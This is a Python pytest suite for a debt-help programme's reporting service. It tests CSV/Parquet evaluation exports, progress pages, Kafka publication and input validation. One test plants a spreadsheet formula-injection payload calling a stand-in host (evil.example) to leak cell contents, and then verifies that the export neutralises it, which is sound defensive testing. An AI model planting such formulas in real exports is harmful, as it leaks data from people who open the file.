"""The evaluation export read back from CSV and Parquet, the progress page, the exchange
dataset published over the real broker, and the API's answers to bad input."""

import asyncio
import csv
import datetime as dt
import json
import threading
import uuid
from decimal import Decimal

import pyarrow.parquet as pq
import pytest
import time_machine
from aiokafka import AIOKafkaConsumer
from fastapi.testclient import TestClient

from steiger.reporting.main import parts
from steiger.reporting.settings import Settings
from steiger.shared.contracts.exchange import EXCHANGE_TOPIC as TOPIC
from steiger.shared.service import build_api

from ..access import staff
from ..waiting import eventually
from .histories import assessed, feed, goal_with_action, registered, research_consent

D = dt.date


@pytest.fixture
def service(tmp_path, broker):
    settings = Settings(var_dir=tmp_path, kafka_bootstrap_servers=broker.bootstrap_servers)
    service_parts = parts(settings)
    app = service_parts.application
    people = [uuid.uuid4() for _ in range(6)]
    for n, p in enumerate(people):
        feed(app, registered(p, on=D(2025, 1, 10)), assessed(p, "debts", 1, D(2025, 1, 12)))
        if n:  # the first one did not consent to research
            feed(app, research_consent(p, D(2025, 1, 10)))
        feed(app, assessed(p, "debts", 2, D(2025, 7, 1)), assessed(p, "income", 2, D(2026, 2, 1)))
        feed(app, *goal_with_action(p, "debts", D(2025, 2, 1), D(2025, 3, 1), D(2025, 3, 10)))
    with TestClient(build_api(service_parts), headers=staff()) as client:
        yield client, app, people, settings


def test_evaluation_export_in_csv_and_parquet_with_research_ids(service):
    client, app, people, _ = service
    response = client.get("/exports/evaluation.csv", params={"as_of": "2026-03-01"})
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(response.text.splitlines()))
    assert len(rows) == 5  # research consent only
    assert not {str(p) for p in people} & {r["research_id"] for r in rows}  # no platform ids
    row = rows[0]
    assert (row["intake_date"], row["step_debts_m0"], row["step_debts_m6"]) == (
        "2025-01-10",
        "1",
        "2",
    )
    # income was first assessed 13 months after intake: neither an intake nor a 12-month value
    assert (row["step_income_m0"], row["step_income_m12"]) == ("", "")
    assert row["step_debts_m24"] == "" and row["goals_achieved_m6"] == "1"
    assert row["rewards_m6"] == "20.00"

    parquet = client.get("/exports/evaluation.parquet", params={"as_of": "2026-03-01"})
    path = client.app.state.operations.settings.exports / "evaluation-2026-03-01.parquet"
    assert parquet.status_code == 200 and parquet.content == path.read_bytes()
    table = pq.read_table(path).to_pylist()
    assert sorted(r["research_id"] for r in table) == sorted(r["research_id"] for r in rows)
    first = next(r for r in table if r["research_id"] == row["research_id"])
    assert first["intake_date"] == D(2025, 1, 10) and first["step_debts_m6"] == 2
    assert first["rewards_m6"] == Decimal("20.00") and first["step_debts_m24"] is None


def test_export_cells_a_spreadsheet_would_run_as_formulas_are_neutralised(service):
    client, app, _, _ = service
    p = uuid.uuid4()
    neighbourhood = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
    feed(app, registered(p, on=D(2025, 1, 10), neighbourhood=neighbourhood))
    feed(app, research_consent(p, D(2025, 1, 10)))
    response = client.get("/exports/evaluation.csv", params={"as_of": "2026-03-01"})
    cells = {r["neighbourhood"] for r in csv.DictReader(response.text.splitlines())}
    assert "'" + neighbourhood in cells
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)


def test_views_are_as_of_today_where_the_organisation_is_by_default(service):
    client, _, people, _ = service
    client.get("/dashboards/programme")  # the caller's token is checked now, not in January
    with time_machine.travel(dt.datetime(2026, 1, 31, 23, 30, tzinfo=dt.UTC), tick=False):
        view = client.get(f"/participants/{people[0]}/progress").json()
        board = client.get("/dashboards/programme").json()
    assert view["as_of"] == board["as_of"] == "2026-02-01"  # already February in Amsterdam
    assert Decimal(view["rewards"]["total"]) >= 0 and isinstance(view["rewards"]["total"], str)


def test_the_progress_page_draws_the_bridge_and_lists_goals(service):
    client, _, people, _ = service
    page = client.get(f"/participants/{people[0]}/progress.html", params={"lang": "nl"})
    assert page.status_code == 200 and "text/html" in page.headers["content-type"]
    assert "Mijn voortgang" in page.text and page.text.count("<polyline") == 2
    assert "bereikt" in page.text and "(+4 sinds de start)" in page.text
    english = client.get(f"/participants/{people[0]}/progress.html", params={"lang": "en"})
    assert "My progress" in english.text and "achieved" in english.text


def test_the_exchange_dataset_is_published_to_kafka_and_written_as_files(service):
    client, _, _, settings = service
    answer = client.post("/exchange/2025/publication")
    assert answer.status_code == 200 and answer.json()["records"] == 1
    written = json.loads((settings.exports / f"exchange-{settings.oin}-2025.json").read_text())
    assert written["schema_version"] == "2.0" and written["rows"][0]["participants"] == 5

    async def read():
        consumer = AIOKafkaConsumer(
            TOPIC, bootstrap_servers=settings.kafka_bootstrap_servers,
            auto_offset_reset="earliest", enable_auto_commit=False,
        )  # fmt: skip
        await consumer.start()
        try:
            batch = await consumer.getmany(timeout_ms=5000)
            return [r for records in batch.values() for r in records]
        finally:
            await consumer.stop()

    (record,) = [
        r for r in asyncio.run(read()) if r.key.startswith(f"{settings.oin}:2025:".encode())
    ]
    headers = dict(record.headers)
    assert headers["ce_type"] == b"nl.steiger.reporting.exchange-outcomes.v2"
    row = json.loads(record.value)
    assert (row["programme"], row["participants"], row["suppressed"]) == ("debt-help", 5, False)
    assert row["goals_achieved_in_period"] == 5


@pytest.mark.parametrize(
    ("path", "field"),
    [
        ("/exchange/2026-Q5", "period"),
        ("/exchange/0000", "period"),
        ("/exchange/0000-Q1", "period"),
        ("/exchange/9999-Q4", "period"),
        ("/exchange/9999-12", "period"),
        ("/dashboards/shoe-size", "by"),
        ("/dashboards/programme?step=0", "step"),
        (f"/participants/{uuid.uuid4()}/progress?as_of=yesterday", "as_of"),
        ("/exports/evaluation.xlsx", "file_format"),
    ],
)
def test_bad_input_is_a_problem_naming_the_field(service, path, field):
    client = service[0]
    response = client.get(path)
    assert response.status_code == 422
    assert response.headers["content-type"] == "application/problem+json"
    assert [e["field"].split(".")[-1] for e in response.json()["errors"]] == [field]


@pytest.mark.parametrize("period", ["0000", "9999-Q4", "9999-12"])
def test_a_publication_for_an_implausible_period_is_refused(service, period):
    response = service[0].post(f"/exchange/{period}/publication")
    assert response.status_code == 422
    assert response.json()["errors"][0]["field"] == "path.period"


def test_unknown_participant_is_404_and_an_unknown_replay_source_422(service):
    client = service[0]
    assert client.get(f"/participants/{uuid.uuid4()}/progress").status_code == 404
    assert client.post("/operations/replay", json={"source": "ftp"}).status_code == 422


def test_a_second_replay_while_one_runs_is_409_and_a_failed_one_changes_nothing(service):
    client, app, people, _ = service
    release = threading.Event()

    def stuck(env, progress):
        release.wait(10)
        raise RuntimeError("source unreachable")

    client.app.state.operations.replay.fills = {"stores": stuck, "kafka": stuck}
    before = client.get(f"/participants/{people[0]}/progress").json()
    assert client.post("/operations/replay", json={}).status_code == 202
    second = client.post("/operations/replay", json={"source": "kafka"})
    assert second.status_code == 409
    assert second.headers["content-type"] == "application/problem+json"
    release.set()
    status = eventually(
        lambda: (s := client.get("/operations/replay").json())["state"] == "failed" and s,
        timeout=10,
        interval=0.05,
    )
    assert status["error"] == "RuntimeError: source unreachable"
    assert status["current_generation"] == 0
    assert client.get(f"/participants/{people[0]}/progress").json() == before
